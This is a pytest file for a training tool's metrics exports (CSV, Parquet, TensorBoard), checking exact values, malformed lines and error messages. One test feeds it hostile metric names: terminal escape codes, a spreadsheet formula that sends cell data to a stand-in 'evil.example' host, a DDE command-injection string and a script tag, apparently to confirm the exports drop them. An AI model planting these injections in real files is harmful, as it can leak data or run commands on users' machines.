"""The metrics of a run are the same in every table, as those who read them see it."""

from __future__ import annotations

import csv
import io
import json
import math
import shutil
from importlib.util import find_spec
from pathlib import Path

import numpy as np
import pytest

from evo.errors import ConfigurationError, extra
from evo.exports.metrics import columns, csv_of
from evo.files.durable import checksummed, without_checksum
from evo.store.metrics import MetricsFile, MetricsTail
from evo.store.run import Run
from evo.store.store import Store
from tests.helpers.calling import ROOT, SMALL, called

ROWS = [
    {"mean": 0.1 + 0.2, "frames": 4096.0, "validation": -1.5, "seconds": 2.0},
    {"mean": math.nan, "frames": 1e15, "seconds": 3.0},
    {"mean": 1 / 3, "frames": 0.0, "test": 7.25, "seconds": 0.5},
]


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    where = tmp_path_factory.mktemp("tables")
    (where / "small.toml").write_text(SMALL)
    from evo.config.experiment import Experiment
    from evo.store.run_directory import provenance

    experiment = Experiment.load(where / "small.toml")
    with Store.create(where / "run", experiment.to_toml(provenance()), experiment.identity()) as store:
        for generation, row in enumerate(ROWS):
            store.commit(generation, {"mean": np.zeros(1)}, {}, row, best=False)
    return where / "run"


def exported(run: Path, kind: str, file: Path) -> str:
    before = {path: path.read_bytes() for path in run.rglob("*") if path.is_file()}
    out, _ = called(run.parent, "export", "run", "--to", kind, file, program="evo")
    assert {path: path.read_bytes() for path in run.rglob("*") if path.is_file()} == before
    return out


def test_a_csv_file_has_every_digit_and_nothing_where_a_value_is_missing(run: Path, tmp_path: Path) -> None:
    assert "3 generations" in exported(run, "csv", tmp_path / "metrics.csv")
    text = (tmp_path / "metrics.csv").read_bytes().decode()
    assert called(run.parent, "export", "run", "--to", "csv", program="evo") == (text, "")
    table = list(csv.DictReader(io.StringIO(text)))
    source = Run(run, trusted=True).metrics
    assert list(table[0]) == ["generation", *columns(source)]
    for generation, (line, row) in enumerate(zip(table, source, strict=True)):
        assert line.pop("generation") == str(generation)
        assert {name: float(value) for name, value in line.items() if value} == row
    assert [line["frames"] for line in table] == ["4096", "1000000000000000", "0"]
    assert [line["mean"] for line in table] == ["0.30000000000000004", "", "0.3333333333333333"]


HOSTILE = (
    "\x1b]0;owned\x07\x1b[2J\x1b[31mall good\x1b[0m\r\n", '=HYPERLINK("http://evil.example/?"&A1,"mean")',
    "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-mean", "", "mean\u202e", "x" * 61, "<script>",
)  # fmt: skip


def test_what_has_no_name_or_value_of_a_metric_is_dropped_by_every_reader_and_kept_in_the_file(
    run: Path, tmp_path: Path
) -> None:
    run = shutil.copytree(run, tmp_path / "run")
    before = called(run.parent, "export", "run", "--to", "csv", program="evo")
    file = run / "metrics.jsonl"
    lines = [without_checksum(line) for line in file.read_bytes().splitlines()]
    odd = {"words": "\x1b[2J", "listed": [1], "large": 10**400, "yes": True, "nested": {"a": 1}}
    wrong = [{"generation": number, "mean": 5.0} for number in ("0", 0.5, True, -1, None, [0], 1 << 60)]
    texts = [json.dumps({**line, **dict.fromkeys(HOSTILE, 1.0), **odd}) for line in lines]
    file.write_bytes(b"".join(checksummed(text.encode()) + b"\n" for text in [*texts, *map(json.dumps, wrong)]))
    written = file.read_bytes()
    out, err = called(run.parent, "export", "run", "--to", "csv", program="evo")
    assert (out, "") == before
    assert err == f"note: run/metrics.jsonl: line {len(lines) + 1}: it is of no generation; and {len(wrong) - 1} more\n"
    assert [set(line) & {*HOSTILE, *odd} for line in MetricsTail(run).read()] == [set()] * (len(lines) - 1)
    assert [set(line) & {*HOSTILE, *odd} for line in MetricsFile(run).read()] == [set()] * len(lines)
    called(run.parent, "doctor", "run", program="evo")
    MetricsFile(run).trim(len(lines))
    assert file.read_bytes() == written


def test_a_last_line_that_lacks_its_line_end_alone_is_kept(run: Path, tmp_path: Path) -> None:
    run = shutil.copytree(run, tmp_path / "run")
    file, written = MetricsFile(run), (run / "metrics.jsonl").read_bytes()
    before = file.read()
    file.path.write_bytes(written[:-1])
    assert file.trim(len(before)) == ""
    assert file.read() == before
    file.append(len(before), {"mean": 1.0})
    assert file.path.read_bytes().startswith(written)
    file.path.write_bytes(written[:-2])
    file.trim(len(before))
    assert file.path.read_bytes() == written[: written.rindex(b"\n", 0, -1) + 1]


def test_a_table_of_no_generations_has_a_header() -> None:
    assert csv_of([]) == "generation\n"


def test_parquet_has_the_same_numbers(run: Path, tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet", reason="the extra `parquet` is not installed")
    assert "3 generations" in exported(run, "parquet", tmp_path / "metrics.parquet")
    table = parquet.read_table(tmp_path / "metrics.parquet").to_pylist()
    source = Run(run, trusted=True).metrics
    assert [row["generation"] for row in table] == [0, 1, 2]
    found = [{name: value for name, value in row.items() if value is not None} for row in table]
    assert found == [{"generation": generation, **row} for generation, row in enumerate(source)]


@pytest.mark.filterwarnings("ignore::DeprecationWarning")  # of the libraries that read and write events
def test_tensorboard_shows_the_same_numbers_at_the_same_generations(run: Path, tmp_path: Path) -> None:
    pytest.importorskip("tensorboardX", reason="the extra `tensorboard` is not installed")
    reader = pytest.importorskip(
        "tensorboard.backend.event_processing.event_accumulator", reason="the extra `tensorboard` is not installed"
    )
    assert "tensorboard --logdir" in exported(run, "tensorboard", tmp_path / "events")
    events = reader.EventAccumulator(str(tmp_path / "events"))
    events.Reload()
    source = Run(run, trusted=True).metrics
    assert set(events.Tags()["scalars"]) == set(columns(source))
    for name in columns(source):
        points = {point.step: point.value for point in events.Scalars(name)}
        expected = {generation: np.float32(row[name]) for generation, row in enumerate(source) if name in row}
        assert points == expected
    assert [point.wall_time for point in events.Scalars("seconds")] == [2.0, 5.0, 5.5]


@pytest.mark.filterwarnings("ignore::DeprecationWarning")  # of the libraries that read and write events
def test_a_run_and_its_resume_write_events_while_they_train(small: Path) -> None:
    words = ("small.toml", "--run-dir", "run", "--no-report", "--tensorboard", "events")
    if find_spec("tensorboardX") is None:
        told = called(small, *words, code=2)[1]
        assert told.startswith("--tensorboard needs tensorboardX")
        assert not (small / "run").exists()
        return
    reader = pytest.importorskip(
        "tensorboard.backend.event_processing.event_accumulator", reason="the extra `tensorboard` is not installed"
    )
    (small / "file").write_text("mine")
    for wrong in ("file", "file/events"):
        told = called(small, *words[:-1], wrong, code=5)[1]
        assert told.startswith(f"cannot write to {wrong}: ")
        assert not (small / "run").exists()
    called(small, *words, "--generations", 2)
    called(small, "--resume", "run", "--generations", 4, "--no-report", "--tensorboard", "events")
    events = reader.EventAccumulator(str(small / "events"))
    events.Reload()
    source = Run(small / "run", trusted=True).metrics
    assert [point.step for point in events.Scalars("best")] == [0, 1, 2, 3]
    assert [point.value for point in events.Scalars("best")] == [np.float32(row["best"]) for row in source]
    assert {1, 3} <= {point.step for point in events.Scalars("test")}


def test_mistakes_are_a_line_each_and_write_nothing(run: Path, tmp_path: Path) -> None:
    (tmp_path / "there.csv").write_text("mine")
    for words, told in (
        (("--to", "csv", tmp_path / "there.csv"), "is there already"),
        (("--to", "csv", tmp_path / "metrics.txt"), "ends with .csv"),
        (("--to", "parquet"), "name the file to write"),
        (("--to", "csv", "--episodes", "3"), "--episodes goes with --to html"),
    ):
        assert told in called(run.parent, "export", "run", *words, program="evo", code=2)[1]
    assert "not a run directory" in called(tmp_path, "export", ".", "--to", "csv", program="evo", code=3)[1]
    assert [path.name for path in tmp_path.iterdir()] == ["there.csv"]


def test_a_missing_library_is_named_with_what_installs_it() -> None:
    with pytest.raises(Exception, match=r"--to parquet needs nowhere.*pip install nowhere"):
        extra("nowhere", "--to parquet")


def test_the_page_of_exports_has_the_lines_that_install_a_missing_library() -> None:
    page = (ROOT / "docs" / "exports.md").read_text()
    for module, wanted in (("pyarrow", "--to parquet"), ("tensorboardX", "--to tensorboard")):
        with pytest.raises(ConfigurationError) as told:
            extra(f"{module}.no_such_module", wanted)
        assert str(told.value).rpartition("install it with: ")[2] in page.splitlines()
